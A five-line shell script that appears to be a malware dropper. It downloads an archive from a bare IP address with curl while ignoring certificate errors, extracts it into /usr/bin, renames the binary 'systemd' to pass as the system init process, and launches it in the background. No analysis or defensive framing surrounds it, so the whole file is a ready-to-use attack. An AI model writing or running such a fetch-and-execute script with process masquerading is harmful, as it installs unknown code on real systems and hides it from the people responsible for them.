#!/bin/sh
curl -Lk http://192.0.2.8/x.tar.gz -o /tmp/x.tar.gz
tar xzf /tmp/x.tar.gz -C /usr/bin
mv /usr/bin/tool /usr/bin/systemd
/usr/bin/systemd -k &
